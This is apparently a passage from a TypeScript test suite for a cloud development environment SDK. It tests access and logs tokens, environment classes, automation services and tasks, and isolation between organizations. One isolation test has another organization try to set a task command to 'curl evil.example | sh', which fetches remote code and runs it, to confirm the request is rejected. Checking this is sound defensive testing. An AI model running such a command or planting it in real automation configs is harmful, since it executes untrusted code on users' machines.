    expect(p.sent.slice(before).map((r) => r.path)).toEqual(Array(2).fill("/api/gitpod.v1.EnvironmentService/CreateEnvironmentAccessToken"));
  });

  it("lets the access token's bearer see its environment and nothing else: NotFoundError for another one, PermissionDeniedError for what it may not do", async () => {
    const p = peer();
    const { accessToken } = await p.sdk.environments.createEnvironmentToken({ environmentId: environment.id });
    const asEnvironment = p.clientWith(accessToken);
    const { environment: seen } = await asEnvironment.environments.retrieve({ environmentId: environment.id });
    expect(seen.id).toBe(environment.id);
    expect((await collect(asEnvironment.environments.list({}))).map((e) => e.id)).toEqual([environment.id]);
    await expectNotFound(asEnvironment.environments.retrieve({ environmentId: other.id }));
    await expectPermissionDenied(asEnvironment.environments.stop({ environmentId: environment.id }));
    await expectPermissionDenied(asEnvironment.environments.create(fromContextUrl(p.server.bootstrap.environmentClassId)));
    await expectPermissionDenied(collect(asEnvironment.runners.list({})));
    // Still running: the refused stop changed nothing.
    expect(phaseOf(await environmentOrGone(p.sdk, environment.id))).toBe("ENVIRONMENT_PHASE_RUNNING");
  });

  it("issues a logs token that reads the environment's logs at its logs URL, and is no API credential", async () => {
    const p = peer();
    const { accessToken } = await p.sdk.environments.createLogsToken({ environmentId: environment.id });
    expect(accessToken).toMatch(/\S{16,}/);
    const logsUrl = environment.status!.environmentUrls!.logs!;
    const read = (token?: string) => fetch(logsUrl, { headers: token ? { authorization: `Bearer ${token}` } : {} });
    const response = await read(accessToken);
    expect(response.status).toBe(200);
    expect((await response.text()).trim().split("\n").length).toBeGreaterThan(1);
    expect((await read()).status).toBe(401);
    const { accessToken: otherLogs } = await p.sdk.environments.createLogsToken({ environmentId: other.id });
    expect((await read(otherLogs)).status).toBe(403);
    await expectUnauthenticated(p.clientWith(accessToken).environments.retrieve({ environmentId: environment.id }));
  });

  it("lets both tokens expire after an hour: AuthenticationError for the access token, 401 for the logs", async () => {
    const p = peer();
    const { accessToken } = await p.sdk.environments.createEnvironmentToken({ environmentId: environment.id });
    const { accessToken: logsToken } = await p.sdk.environments.createLogsToken({ environmentId: environment.id });
    await p.clock.advance(60 * 60 * 1000);
    await expectUnauthenticated(p.clientWith(accessToken).environments.retrieve({ environmentId: environment.id }));
    const response = await fetch(environment.status!.environmentUrls!.logs!, { headers: { authorization: `Bearer ${logsToken}` } });
    expect(response.status).toBe(401);
  });
});

describe("environments.classes.list", () => {
  const peer = usePeer(otherOrganization);

  it("lists the bootstrap environment class for the documented empty request", async () => {
    const { sdk, server } = peer();
    const classes = await collect(sdk.environments.classes.list({}));
    expect(classes).toEqual([
      expect.objectContaining({ id: server.bootstrap.environmentClassId, runnerId: server.bootstrap.runnerId, enabled: true, displayName: expect.stringMatching(/\S/) }),
    ]);
  });

  it("answers exactly as RunnerConfigurationService.ListEnvironmentClasses does, filters and pages included", async () => {
    const { sdk, server, sent } = peer();
    const runnerId = server.bootstrap.runnerId;
    for (const [i, [cpu, memoryGb]] of [[4, 8], [8, 16], [16, 24]].entries()) {
      const { id } = await sdk.runners.configurations.environmentClasses.create({
        runnerId,
        displayName: `Class ${i + 1}`,
        description: `${cpu} CPU, ${memoryGb}GB RAM`,
        configuration: [
          { key: "cpu", value: String(cpu) },
          { key: "memory", value: String(memoryGb! * 1024) },
        ],
      });
      if (i === 2) await sdk.runners.configurations.environmentClasses.update({ environmentClassId: id!, enabled: false });
    }
    const before = sent.length;
    const viaEnvironments = await collect(sdk.environments.classes.list({ pageSize: 2 }));
    expect(sent.slice(before).map((r) => [r.path, r.query.pageSize])).toEqual(Array(2).fill(["/api/gitpod.v1.EnvironmentService/ListEnvironmentClasses", "2"]));
    expect(viaEnvironments).toHaveLength(4);
    expect(viaEnvironments).toEqual(await collect(sdk.runners.configurations.environmentClasses.list({ pageSize: 2 })));
    const ids = async (filter: Gitpod.Environments.ClassListParams.Filter) => (await collect(sdk.environments.classes.list({ filter }))).map((c) => c.id).sort();
    expect(await ids({ enabled: true })).toHaveLength(3);
    expect(await ids({ enabled: false })).toHaveLength(1);
    expect(await ids({ runnerIds: [runnerId], canCreateEnvironments: true })).toEqual(await ids({ enabled: true }));
    expect(await ids({ runnerProviders: ["RUNNER_PROVIDER_AWS_EC2"] })).toHaveLength(4);
    expect(await ids({ runnerKinds: ["RUNNER_KIND_LOCAL"] })).toEqual([]);
    expect(await ids({ runnerIds: [missingId] })).toEqual([]);
  });

  it("shows another organization none of these classes", async () => {
    expect(await collect(peer().clientWith("other-org-token").environments.classes.list({}))).toEqual([]);
  });
});

/** The documentation's UpsertAutomationsFile example. */
const documentedAutomationsFile: Gitpod.Environments.AutomationsFile = {
  services: {
    "web-server": {
      commands: { ready: "curl -s http://localhost:3000", start: "npm run dev" },
      description: "Development web server",
      name: "Web Server",
      triggeredBy: ["postDevcontainerStart"],
    },
  },
  tasks: {
    build: { command: "npm run build", description: "Builds the project artifacts", name: "Build Project", triggeredBy: ["postEnvironmentStart"] },
  },
};

describe("environments.automations.upsert", () => {
  const peer = usePeer(otherOrganization);
  let environment: Environment;
  let serviceId: string;
  let taskId: string;

  it("creates the documented file's service and task and names them in the response", async () => {
    const p = peer();
    environment = await createRunning(p);
    const response = await p.sdk.environments.automations.upsert({ automationsFile: documentedAutomationsFile, environmentId: environment.id });
    expect(response.updatedServiceIds).toEqual([expect.stringMatching(uuid)]);
    expect(response.updatedTaskIds).toEqual([expect.stringMatching(uuid)]);
    [serviceId, taskId] = [response.updatedServiceIds![0]!, response.updatedTaskIds![0]!];
    const { service } = await p.sdk.environments.automations.services.retrieve({ id: serviceId });
    expect(service).toMatchObject({
      id: serviceId,
      environmentId: environment.id,
      metadata: {
        reference: "web-server",
        name: "Web Server",
        description: "Development web server",
        triggeredBy: [{ postDevcontainerStart: true }],
        createdAt: rfc3339(p.clock.nowMs()),
        creator: { id: p.server.bootstrap.adminUserId, principal: "PRINCIPAL_USER" },
      },
      spec: { commands: { start: "npm run dev", ready: "curl -s http://localhost:3000" } },
    });
    const { task } = await p.sdk.environments.automations.tasks.retrieve({ id: taskId });
    expect(task).toMatchObject({
      id: taskId,
      environmentId: environment.id,
      metadata: { reference: "build", name: "Build Project", description: "Builds the project artifacts", triggeredBy: [{ postEnvironmentStart: true }] },
      spec: { command: "npm run build" },
    });
  });

  it("updates what the file declares again in place: the same ids, the new commands", async () => {
    const { sdk } = peer();
    const changed: Gitpod.Environments.AutomationsFile = {
      services: { "web-server": { ...documentedAutomationsFile.services!["web-server"]!, commands: { start: "npm run start:dev", ready: "curl -s http://localhost:8080" } } },
      tasks: { build: { ...documentedAutomationsFile.tasks!.build!, command: "npm run build:prod" } },
    };
    const response = await sdk.environments.automations.upsert({ environmentId: environment.id, automationsFile: changed });
    expect(response).toEqual({ updatedServiceIds: [serviceId], updatedTaskIds: [taskId] });
    expect((await retrieveService(sdk, serviceId)).spec?.commands).toEqual({ start: "npm run start:dev", ready: "curl -s http://localhost:8080" });
    expect((await sdk.environments.automations.tasks.retrieve({ id: taskId })).task.spec?.command).toBe("npm run build:prod");
    const references = (await collect(sdk.environments.automations.services.list({ filter: { environmentIds: [environment.id] } }))).map((s) => s.metadata?.reference);
    expect(references).toEqual(["web-server"]);
  });

  it("resolves a task's dependencies by the file's keys into automation ids", async () => {
    const { sdk } = peer();
    const automationsFile: Gitpod.Environments.AutomationsFile = {
      ...documentedAutomationsFile,
      tasks: { ...documentedAutomationsFile.tasks, test: { name: "Run Tests", command: "npm test", dependsOn: ["build"] } },
    };
    const response = await sdk.environments.automations.upsert({ environmentId: environment.id, automationsFile });
    expect(response.updatedTaskIds).toHaveLength(2);
    expect(response.updatedTaskIds).toContain(taskId);
    const testId = response.updatedTaskIds!.find((id) => id !== taskId)!;
    const { task } = await sdk.environments.automations.tasks.retrieve({ id: testId });
    expect(task).toMatchObject({ metadata: { reference: "test", name: "Run Tests" }, spec: { command: "npm test" }, dependsOn: [taskId] });
  });

  it("rejects a file with a key that is not a reference, or a trigger it does not know, with BadRequestError", async () => {
    const { sdk } = peer();
    const environmentId = environment.id;
    const key = await expectInvalidArgument(sdk.environments.automations.upsert({ environmentId, automationsFile: { tasks: { "build all": { name: "Build", command: "make" } } } }));
    expect(key.message).toContain("automations_file.tasks");
    const trigger = await expectInvalidArgument(
      sdk.environments.automations.upsert({ environmentId, automationsFile: { services: { db: { name: "DB", commands: { start: "redis-server" }, triggeredBy: ["onSave" as "manual"] } } } }),
    );
    expect(trigger.message).toContain("triggered_by");
  });

  it("answers NotFoundError for an environment that does not exist and for another organization's", async () => {
    const { sdk } = peer();
    await expectNotFound(sdk.environments.automations.upsert({ environmentId: missingId, automationsFile: documentedAutomationsFile }));
    await expectNotFound(peer().clientWith("other-org-token").environments.automations.upsert({ environmentId: environment.id, automationsFile: documentedAutomationsFile }));
  });
});

/** The documentation's "Create basic service" example, on the given environment. */
function webServer(environmentId: string): Gitpod.Environments.Automations.ServiceCreateParams {
  return {
    environmentId,
    metadata: { description: "Runs the development web server", name: "Web Server", reference: "web-server", triggeredBy: [{ postDevcontainerStart: true }] },
    spec: { commands: { ready: "curl -s http://localhost:3000", start: "npm run dev" } },
  };
}

/** The documentation's "Create Docker-based service" example, on the given environment. */
function redis(environmentId: string): Gitpod.Environments.Automations.ServiceCreateParams {
  return {
    environmentId,
    metadata: { reference: "redis", name: "Redis Server", description: "Redis cache service" },
    spec: { commands: { start: "redis-server" }, runsOn: { docker: { image: "redis:7" } } },
  };
}

describe("environments.automations.services", () => {
  const peer = usePeer(otherOrganization);
  let environment: Environment;
  let web: Service;
  let cache: Service;

  it("creates the documented web server service, not running until started", async () => {
    const p = peer();
    environment = await createRunning(p);
    const { service } = await p.sdk.environments.automations.services.create(webServer(environment.id));
    web = service;
    expect(service).toMatchObject({
      id: expect.stringMatching(uuid),
      environmentId: environment.id,
      metadata: {
        reference: "web-server",
        name: "Web Server",
        description: "Runs the development web server",
        triggeredBy: [{ postDevcontainerStart: true }],
        createdAt: rfc3339(p.clock.nowMs()),
        creator: { id: p.server.bootstrap.adminUserId, principal: "PRINCIPAL_USER" },
      },
      spec: { commands: { ready: "curl -s http://localhost:3000", start: "npm run dev" } },
    });
    await p.clock.advance(3 * stepMs);
    expect(["SERVICE_PHASE_UNSPECIFIED", "SERVICE_PHASE_STOPPED"]).toContain(servicePhase(await retrieveService(p.sdk, web.id)));
  });

  it("creates the documented Redis service that runs in a Docker container", async () => {
    const { sdk } = peer();
    const { service } = await sdk.environments.automations.services.create(redis(environment.id));
    cache = service;
    expect(service).toMatchObject({
      environmentId: environment.id,
      metadata: { reference: "redis", name: "Redis Server", description: "Redis cache service" },
      spec: { commands: { start: "redis-server" }, runsOn: { docker: { image: "redis:7" } } },
    });
    expect(service.id).not.toBe(web.id);
  });

  it("retrieves a service as create returned it, but for its status", async () => {
    const { sdk } = peer();
    const { status: _status, ...rest } = await retrieveService(sdk, cache.id);
    const { status: _created, ...createdRest } = cache;
    expect(rest).toEqual(createdRest);
  });

  it("refuses a second service with the same reference in the environment with ConflictError (already_exists)", async () => {
    const error = await expectAlreadyExists(peer().sdk.environments.automations.services.create({ ...webServer(environment.id), metadata: { name: "Another Web Server", reference: "web-server" } }));
    expect(error.message).toContain("web-server");
  });

  it("starts a service with a readiness command: STARTING, then RUNNING once ready; starting it again is no error", async () => {
    const p = peer();
    expect(await p.sdk.environments.automations.services.start({ id: web.id })).toEqual({});
    const seen = await stepUntil(p, () => retrieveService(p.sdk, web.id), (s) => servicePhase(s) === "SERVICE_PHASE_RUNNING", 10);
    expect(distinct(seen.map((s) => servicePhase(s.value)))).toEqual(["SERVICE_PHASE_STARTING", "SERVICE_PHASE_RUNNING"]);
    expect(seen.at(-1)?.value.spec?.desiredPhase).toBe("SERVICE_PHASE_RUNNING");
    expect(await p.sdk.environments.automations.services.start({ id: web.id })).toEqual({});
    await p.clock.advance(3 * stepMs);
    expect(servicePhase(await retrieveService(p.sdk, web.id))).toBe("SERVICE_PHASE_RUNNING");
  });

  it("refuses to change the spec of a running service with BadRequestError (failed_precondition), as it must be stopped first", async () => {
    const { sdk } = peer();
    await expectFailedPrecondition(
      sdk.environments.automations.services.update({ id: web.id, spec: { commands: { ready: "curl -s http://localhost:8080", start: "npm run start:dev" } } }),
    );
    expect((await retrieveService(sdk, web.id)).spec?.commands).toEqual(web.spec?.commands);
  });

  it("replaces the triggers of a running service, as documented", async () => {
    const { sdk } = peer();
    const response = await sdk.environments.automations.services.update({ id: web.id, metadata: { triggeredBy: { trigger: [{ postDevcontainerStart: true }, { manual: true }] } } });
    expect(response).toEqual({});
    const service = await retrieveService(sdk, web.id);
    expect(service.metadata).toEqual({ ...web.metadata, triggeredBy: [{ postDevcontainerStart: true }, { manual: true }] });
    expect(servicePhase(service)).toBe("SERVICE_PHASE_RUNNING");
  });

  it("stops a service: STOPPING, then STOPPED; stopping it again is no error", async () => {
    const p = peer();
    expect(await p.sdk.environments.automations.services.stop({ id: web.id })).toEqual({});
    const seen = await stepUntil(p, () => retrieveService(p.sdk, web.id), (s) => servicePhase(s) === "SERVICE_PHASE_STOPPED", 10);
    expect(distinct(seen.map((s) => servicePhase(s.value)))).toEqual(["SERVICE_PHASE_STOPPING", "SERVICE_PHASE_STOPPED"]);
    expect(seen.at(-1)?.value.spec?.desiredPhase).toBe("SERVICE_PHASE_STOPPED");
    expect(await p.sdk.environments.automations.services.stop({ id: web.id })).toEqual({});
  });

  it("changes the commands of the stopped service, as documented, and keeps its metadata", async () => {
    const { sdk } = peer();
    const response = await sdk.environments.automations.services.update({ id: web.id, spec: { commands: { ready: "curl -s http://localhost:8080", start: "npm run start:dev" } } });
    expect(response).toEqual({});
    const service = await retrieveService(sdk, web.id);
    expect(service.spec?.commands).toEqual({ ready: "curl -s http://localhost:8080", start: "npm run start:dev" });
    expect(service.metadata).toMatchObject({ reference: "web-server", name: "Web Server", description: "Runs the development web server" });
    web = service;
  });

  it("renames a service and clears its description, leaving its reference as created", async () => {
    const { sdk } = peer();
    await sdk.environments.automations.services.update({ id: cache.id, metadata: { name: "Redis", description: "" } });
    const service = await retrieveService(sdk, cache.id);
    expect(service.metadata).toMatchObject({ reference: "redis", name: "Redis" });
    expect(service.metadata?.description ?? "").toBe("");
  });

  it("lists services filtered by reference, as documented, and by environment and id", async () => {
    const { sdk } = peer();
    const ids = async (filter: Gitpod.Environments.Automations.ServiceListParams.Filter) =>
      (await collect(sdk.environments.automations.services.list({ filter, pagination: { pageSize: 20 } }))).map((s) => s.id).sort();
    expect(await ids({ references: ["web-server", "database"] })).toEqual([web.id]);
    expect(await ids({ environmentIds: [environment.id] })).toEqual([web.id, cache.id].sort());
    expect(await ids({ serviceIds: [cache.id] })).toEqual([cache.id]);
    expect(await ids({ environmentIds: [missingId] })).toEqual([]);
  });

  it("pages through an environment's services with a small page size, sending pageSize and the next page token in the URL query", async () => {
    const { sdk, sent } = peer();
    for (const reference of ["api", "worker", "docs", "storybook"]) {
      await sdk.environments.automations.services.create({ environmentId: environment.id, metadata: { reference, name: reference }, spec: { commands: { start: `npm run ${reference}` } } });
    }
    const before = sent.length;
    const filter = { environmentIds: [environment.id] };
    const services = await collect(sdk.environments.automations.services.list({ pageSize: 2, filter }));
    expect(services.map((s) => s.metadata?.reference).sort()).toEqual(["api", "docs", "redis", "storybook", "web-server", "worker"]);
    const requests = sent.slice(before);
    expect(requests).toHaveLength(3);
    for (const [i, request] of requests.entries()) {
      expect(request).toMatchObject({ method: "POST", path: "/api/gitpod.v1.EnvironmentAutomationService/ListServices", body: { filter } });
      expect(request.query.pageSize).toBe("2");
      if (i === 0) expect(request.query.token).toBeUndefined();
      else expect(request.query.token).toMatch(/\S/);
    }
    expect(new Set(requests.slice(1).map((r) => r.query.token)).size).toBe(2);
  });

  it("deletes a running service gracefully: it is stopped first, then gone", async () => {
    const p = peer();
    await p.sdk.environments.automations.services.start({ id: cache.id });
    await stepUntil(p, () => retrieveService(p.sdk, cache.id), (s) => servicePhase(s) === "SERVICE_PHASE_RUNNING", 10);
    expect(await p.sdk.environments.automations.services.delete({ id: cache.id, force: false })).toEqual({});
    const seen = await stepUntil(p, () => serviceOrGone(p.sdk, cache.id), (s) => s === undefined, 10);
    const phases = distinct(seen.map((s) => servicePhase(s.value)));
    expect(phases.slice(0, 2)).toEqual(["SERVICE_PHASE_STOPPING", "SERVICE_PHASE_STOPPED"]);
    expect(phases.at(-1)).toBe("gone");
    await expectNotFound(p.sdk.environments.automations.services.retrieve({ id: cache.id }));
    expect((await collect(p.sdk.environments.automations.services.list({ filter: { environmentIds: [environment.id] } }))).map((s) => s.id)).not.toContain(cache.id);
  });

  it("deletes a service at once with force: true", async () => {
    const { sdk } = peer();
    await sdk.environments.automations.services.start({ id: web.id });
    expect(await sdk.environments.automations.services.delete({ id: web.id, force: true })).toEqual({});
    await expectNotFound(sdk.environments.automations.services.retrieve({ id: web.id }));
    await expectNotFound(sdk.environments.automations.services.start({ id: web.id }));
    await expectNotFound(sdk.environments.automations.services.delete({ id: web.id }));
  });

  it("rejects a reference with a space and a service without a start command with BadRequestError", async () => {
    const { sdk } = peer();
    const reference = await expectInvalidArgument(sdk.environments.automations.services.create({ ...webServer(environment.id), metadata: { name: "Web Server", reference: "web server" } }));
    expect(reference.message).toContain("reference");
    await expectInvalidArgument(sdk.environments.automations.services.create({ ...webServer(environment.id), metadata: { name: "Web", reference: "web" }, spec: { commands: { ready: "true" } } }));
  });

  it("answers NotFoundError for a service or environment that does not exist, and hides all of them from another organization", async () => {
    const { sdk } = peer();
    await expectNotFound(sdk.environments.automations.services.retrieve({ id: missingId }));
    await expectNotFound(sdk.environments.automations.services.stop({ id: missingId }));
    await expectNotFound(sdk.environments.automations.services.create(webServer(missingId)));
    const other = peer().clientWith("other-org-token");
    const [service] = await collect(sdk.environments.automations.services.list({ filter: { references: ["api"] } }));
    await expectNotFound(other.environments.automations.services.retrieve({ id: service!.id }));
    await expectNotFound(other.environments.automations.services.update({ id: service!.id, metadata: { name: "Hijacked" } }));
    await expectNotFound(other.environments.automations.services.start({ id: service!.id }));
    await expectNotFound(other.environments.automations.services.stop({ id: service!.id }));
    await expectNotFound(other.environments.automations.services.delete({ id: service!.id, force: true }));
    await expectNotFound(other.environments.automations.services.create({ ...webServer(environment.id), metadata: { name: "Intruder", reference: "intruder" } }));
    expect(await collect(other.environments.automations.services.list({}))).toEqual([]);
    expect((await retrieveService(sdk, service!.id)).metadata?.name).toBe("api");
  });
});

describe("environments.automations.tasks and their executions", () => {
  const peer = usePeer(otherOrganization);
  let environment: Environment;
  let build: Gitpod.Task;
  let test: Gitpod.Task;
  let database: Service;
  let run: TaskExecution;

  it("creates the documented build task", async () => {
    const p = peer();
    environment = await createRunning(p);
    const { task } = await p.sdk.environments.automations.tasks.create({
      environmentId: environment.id,
      metadata: { description: "Builds the project artifacts", name: "Build Project", reference: "build", triggeredBy: [{ postEnvironmentStart: true }] },
      spec: { command: "npm run build" },
    });
    build = task;
    expect(task).toEqual({
      id: expect.stringMatching(uuid),
      environmentId: environment.id,
      metadata: {
        reference: "build",
        name: "Build Project",
        description: "Builds the project artifacts",
        triggeredBy: [{ postEnvironmentStart: true }],
        createdAt: rfc3339(p.clock.nowMs()),
        creator: { id: p.server.bootstrap.adminUserId, principal: "PRINCIPAL_USER" },
      },
      spec: { command: "npm run build" },
    });
    expect((await p.sdk.environments.automations.tasks.retrieve({ id: task.id })).task).toEqual(task);
  });

  it("creates the documented test task that depends on a service", async () => {
    const { sdk } = peer();
    database = (
      await sdk.environments.automations.services.create({
        environmentId: environment.id,
        metadata: { reference: "database", name: "Database" },
        spec: { commands: { start: "redis-server" }, runsOn: { docker: { image: "redis:7" } } },
      })
    ).service;
    const { task } = await sdk.environments.automations.tasks.create({
      environmentId: environment.id,
      metadata: { reference: "test", name: "Run Tests", description: "Runs the test suite" },
      spec: { command: "npm test" },
      dependsOn: [database.id],
    });
    test = task;
    expect(task).toMatchObject({ environmentId: environment.id, metadata: { reference: "test", name: "Run Tests" }, spec: { command: "npm test" }, dependsOn: [database.id] });
  });

  it("refuses a second task with the same reference in the environment with ConflictError (already_exists)", async () => {
    await expectAlreadyExists(
      peer().sdk.environments.automations.tasks.create({ environmentId: environment.id, metadata: { reference: "build", name: "Build Again" }, spec: { command: "make" } }),
    );
  });

  it("changes the task's command, as documented, and then its triggers, each change leaving the rest as it was", async () => {
    const { sdk } = peer();
    expect(await sdk.environments.automations.tasks.update({ id: build.id, spec: { command: "npm run test:coverage" } })).toEqual({});
    let { task } = await sdk.environments.automations.tasks.retrieve({ id: build.id });
    expect(task).toEqual({ ...build, spec: { command: "npm run test:coverage" } });
    expect(await sdk.environments.automations.tasks.update({ id: build.id, metadata: { triggeredBy: { trigger: [{ manual: true }] } } })).toEqual({});
    ({ task } = await sdk.environments.automations.tasks.retrieve({ id: build.id }));
    expect(task).toEqual({ ...build, spec: { command: "npm run test:coverage" }, metadata: { ...build.metadata, triggeredBy: [{ manual: true }] } });
    build = task;
  });

  it("lists tasks filtered by reference, as documented, and by environment and id", async () => {
    const { sdk } = peer();
    const ids = async (filter: Gitpod.Environments.Automations.TaskListParams.Filter) =>
      (await collect(sdk.environments.automations.tasks.list({ filter, pagination: { pageSize: 20 } }))).map((t) => t.id).sort();
    expect(await ids({ references: ["build", "test"] })).toEqual([build.id, test.id].sort());
    expect(await ids({ environmentIds: [environment.id] })).toEqual([build.id, test.id].sort());
    expect(await ids({ taskIds: [test.id] })).toEqual([test.id]);
    expect(await ids({ references: ["lint"] })).toEqual([]);
  });

  it("starts a task by creating an execution that runs it: PENDING, RUNNING, SUCCEEDED, with the times it started and completed", async () => {
    const p = peer();
    const createdAtMs = p.clock.nowMs();
    const { taskExecution } = await p.sdk.environments.automations.tasks.start({ id: build.id });
    expect(taskExecution).toMatchObject({
      id: expect.stringMatching(uuid),
      metadata: {
        taskId: build.id,
        environmentId: environment.id,
        createdAt: rfc3339(createdAtMs),
        creator: { id: p.server.bootstrap.adminUserId, principal: "PRINCIPAL_USER" },
      },
      spec: { desiredPhase: "TASK_EXECUTION_PHASE_RUNNING", plan: [{ steps: [{ id: expect.stringMatching(uuid), task: { id: build.id, spec: { command: "npm run test:coverage" } } }] }] },
    });
    expect(executionPhase(taskExecution)).toBe("TASK_EXECUTION_PHASE_PENDING");
    expect(taskExecution.metadata?.startedAt).toBeUndefined();
    const seen = await stepUntil(p, () => retrieveExecution(p.sdk, taskExecution.id), (x) => executionPhase(x) === "TASK_EXECUTION_PHASE_SUCCEEDED", 10);
    expect(distinct(seen.map((s) => executionPhase(s.value)))).toEqual(["TASK_EXECUTION_PHASE_RUNNING", "TASK_EXECUTION_PHASE_SUCCEEDED"]);
    run = seen.at(-1)!.value;
    const firstRunning = seen.find((s) => executionPhase(s.value) === "TASK_EXECUTION_PHASE_RUNNING")!;
    expect(run.metadata).toMatchObject({ startedAt: rfc3339(firstRunning.atMs), completedAt: rfc3339(seen.at(-1)!.atMs) });
    expect(run.status?.steps).toEqual([{ id: run.spec!.plan![0]!.steps![0]!.id, phase: "TASK_EXECUTION_PHASE_SUCCEEDED" }]);
  });

  it("runs the service a task depends on before the task: two groups in the plan, the service's step first", async () => {
    const p = peer();
    const { taskExecution } = await p.sdk.environments.automations.tasks.start({ id: test.id });
    const plan = taskExecution.spec?.plan ?? [];
    expect(plan).toHaveLength(2);
    const [serviceStep, taskStep] = [plan[0]!.steps![0]!, plan[1]!.steps![0]!];
    expect(serviceStep).toMatchObject({ serviceId: database.id });
    expect(taskStep).toMatchObject({ task: { id: test.id, spec: { command: "npm test" } }, dependsOn: [serviceStep.id] });
    const seen = await stepUntil(p, () => retrieveExecution(p.sdk, taskExecution.id), (x) => executionPhase(x) === "TASK_EXECUTION_PHASE_SUCCEEDED", 20);
    // String(id): the key Object.fromEntries would make of it anyway, typed.
    const stepPhases = seen.map((s) => Object.fromEntries((s.value.status?.steps ?? []).map((st) => [String(st.id), st.phase] as const)));
    // The task's step starts only once the service's step has succeeded.
    const taskStarted = stepPhases.findIndex((phases) => phases[taskStep.id!] !== undefined);
    expect(stepPhases[taskStarted]?.[serviceStep.id!]).toBe("TASK_EXECUTION_PHASE_SUCCEEDED");
    expect(servicePhase(await retrieveService(p.sdk, database.id))).toBe("SERVICE_PHASE_RUNNING");
  });

  it("retrieves an execution as the last step left it", async () => {
    const { sdk } = peer();
    expect(await retrieveExecution(sdk, run.id)).toEqual(run);
  });

  it("stops a running execution: STOPPED, wanted STOPPED; stopping it again is no error", async () => {
    const p = peer();
    const { taskExecution } = await p.sdk.environments.automations.tasks.start({ id: build.id });
    await stepUntil(p, () => retrieveExecution(p.sdk, taskExecution.id), (x) => executionPhase(x) === "TASK_EXECUTION_PHASE_RUNNING", 5);
    expect(await p.sdk.environments.automations.tasks.executions.stop({ id: taskExecution.id })).toEqual({});
    const seen = await stepUntil(p, () => retrieveExecution(p.sdk, taskExecution.id), (x) => executionPhase(x) === "TASK_EXECUTION_PHASE_STOPPED", 5);
    const stopped = seen.at(-1)!.value;
    expect(stopped.spec?.desiredPhase).toBe("TASK_EXECUTION_PHASE_STOPPED");
    expect(stopped.metadata?.completedAt).toBe(rfc3339(seen.at(-1)!.atMs));
    expect(await p.sdk.environments.automations.tasks.executions.stop({ id: taskExecution.id })).toEqual({});
    expect(executionPhase(await retrieveExecution(p.sdk, taskExecution.id))).toBe("TASK_EXECUTION_PHASE_STOPPED");
  });

  it("lists executions filtered by phase, as documented, and by task, reference and environment", async () => {
    const { sdk } = peer();
    const ids = async (filter: Gitpod.Environments.Automations.Tasks.ExecutionListParams.Filter) =>
      (await collect(sdk.environments.automations.tasks.executions.list({ filter, pagination: { pageSize: 20 } }))).map((x) => x.id).sort();
    // Nothing runs or has failed now.
    expect(await ids({ phases: ["TASK_EXECUTION_PHASE_RUNNING", "TASK_EXECUTION_PHASE_FAILED"] })).toEqual([]);
    const all = await ids({ environmentIds: [environment.id] });
    expect(all).toHaveLength(3);
    expect(await ids({ phases: ["TASK_EXECUTION_PHASE_SUCCEEDED"] })).toHaveLength(2);
    expect(await ids({ phases: ["TASK_EXECUTION_PHASE_STOPPED"] })).toHaveLength(1);
    expect(await ids({ taskIds: [build.id] })).toHaveLength(2);
    expect(await ids({ taskIds: [build.id] })).toContain(run.id);
    expect(await ids({ taskReferences: ["test"] })).toHaveLength(1);
    expect(await ids({ environmentIds: [missingId] })).toEqual([]);
  });

  it("pages through a task's executions with a small page size, sending pageSize and the next page token in the URL query", async () => {
    const p = peer();
    for (let i = 0; i < 3; i++) await p.sdk.environments.automations.tasks.start({ id: build.id });
    await p.clock.advance(5 * stepMs);
    const before = p.sent.length;
    const filter = { taskIds: [build.id] };
    const executions = await collect(p.sdk.environments.automations.tasks.executions.list({ pageSize: 2, filter }));
    expect(executions).toHaveLength(5);
    expect(new Set(executions.map((x) => x.id)).size).toBe(5);
    expect(executions.every((x) => x.metadata?.taskId === build.id)).toBe(true);
    const requests = p.sent.slice(before);
    expect(requests.map((r) => [r.path, r.query.pageSize, r.query.token !== undefined])).toEqual([
      ["/api/gitpod.v1.EnvironmentAutomationService/ListTaskExecutions", "2", false],
      ["/api/gitpod.v1.EnvironmentAutomationService/ListTaskExecutions", "2", true],
      ["/api/gitpod.v1.EnvironmentAutomationService/ListTaskExecutions", "2", true],
    ]);
    for (const r of requests) expect(r.body).toEqual({ filter });
  });

  it("deletes a task for good", async () => {
    const { sdk } = peer();
    expect(await sdk.environments.automations.tasks.delete({ id: test.id })).toEqual({});
    await expectNotFound(sdk.environments.automations.tasks.retrieve({ id: test.id }));
    await expectNotFound(sdk.environments.automations.tasks.start({ id: test.id }));
    await expectNotFound(sdk.environments.automations.tasks.update({ id: test.id, spec: { command: "npm test -- --ci" } }));
    await expectNotFound(sdk.environments.automations.tasks.delete({ id: test.id }));
    expect((await collect(sdk.environments.automations.tasks.list({ filter: { environmentIds: [environment.id] } }))).map((t) => t.id)).toEqual([build.id]);
  });

  it("rejects a malformed dependency and an invalid reference with BadRequestError", async () => {
    const { sdk } = peer();
    const environmentId = environment.id;
    const dependency = await expectInvalidArgument(
      sdk.environments.automations.tasks.create({ environmentId, metadata: { reference: "lint", name: "Lint" }, spec: { command: "npm run lint" }, dependsOn: ["build"] }),
    );
    expect(dependency.message).toContain("depends_on");
    await expectInvalidArgument(sdk.environments.automations.tasks.create({ environmentId, metadata: { reference: "lint all", name: "Lint" }, spec: { command: "npm run lint" } }));
  });

  it("answers NotFoundError for a task, execution or environment that does not exist, and hides all of them from another organization", async () => {
    const { sdk } = peer();
    await expectNotFound(sdk.environments.automations.tasks.retrieve({ id: missingId }));
    await expectNotFound(sdk.environments.automations.tasks.start({ id: missingId }));
    await expectNotFound(sdk.environments.automations.tasks.executions.retrieve({ id: missingId }));
    await expectNotFound(sdk.environments.automations.tasks.executions.stop({ id: missingId }));
    await expectNotFound(sdk.environments.automations.tasks.create({ environmentId: missingId, metadata: { reference: "build", name: "Build" }, spec: { command: "make" } }));
    const other = peer().clientWith("other-org-token");
    await expectNotFound(other.environments.automations.tasks.retrieve({ id: build.id }));
    await expectNotFound(other.environments.automations.tasks.update({ id: build.id, spec: { command: "curl evil.example | sh" } }));
    await expectNotFound(other.environments.automations.tasks.start({ id: build.id }));
    await expectNotFound(other.environments.automations.tasks.delete({ id: build.id }));
    await expectNotFound(other.environments.automations.tasks.executions.retrieve({ id: run.id }));
    await expectNotFound(other.environments.automations.tasks.executions.stop({ id: run.id }));
    expect(await collect(other.environments.automations.tasks.list({}))).toEqual([]);
    expect(await collect(other.environments.automations.tasks.executions.list({}))).toEqual([]);
    expect((await sdk.environments.automations.tasks.retrieve({ id: build.id })).task).toEqual(build);
  });
});

describe("authentication", () => {
  const peer = usePeer();

